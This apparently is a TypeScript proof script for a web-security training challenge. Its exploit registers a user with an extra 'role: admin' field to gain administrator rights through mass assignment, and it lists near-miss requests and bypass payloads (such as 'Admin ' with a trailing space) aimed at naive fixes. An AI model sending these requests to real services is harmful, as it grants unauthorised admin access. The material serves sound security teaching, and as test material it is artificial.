import { randomUUID } from 'node:crypto'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const password = 'a ripe password'
const newEmail = () => `${randomUUID()}@orchard.test`
const register = (attacker: Attacker, more: object) =>
  attacker.post('/api/Users', { email: newEmail(), password, passwordRepeat: password, ...more })

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The response to an ordinary registration contains the field `role`.
    const { data } = (await register(attacker, {})).json()
    if ('role' in data) await register(attacker, { role: 'admin' })
  },
  nearMisses: {
    'an ordinary registration': (attacker) => register(attacker, {}),
    'another powerful role': (attacker) => register(attacker, { role: 'accounting' }),
    'a role that there is not': (attacker) => register(attacker, { role: 'administrator' }),
    'a role that is no text': (attacker) => register(attacker, { role: ['admin'] }),
    'another name for the field': (attacker) => register(attacker, { Role: 'admin', isAdmin: true }),
    'the role beside an e-mail that is taken': (attacker) =>
      register(attacker, { email: `jim@${attacker.domain}`, role: 'admin' }),
    'the role in the address': (attacker) =>
      attacker.post('/api/Users?role=admin', { email: newEmail(), password, passwordRepeat: password }),
    'an account that is there, changed by its owner': async (attacker) => {
      await attacker.becomeCustomer()
      const { user } = (await attacker.get('/rest/user/whoami')).json()
      await attacker.put(`/api/Users/${user.id}`, { role: 'admin' })
    },
  },
  bypasses: {
    'refuse-admin': (attacker) => register(attacker, { role: 'Admin ' }),
    'ask-for-a-company-address': (attacker) =>
      register(attacker, { email: `${randomUUID()}@${attacker.domain}`, role: 'admin' }),
  },
})
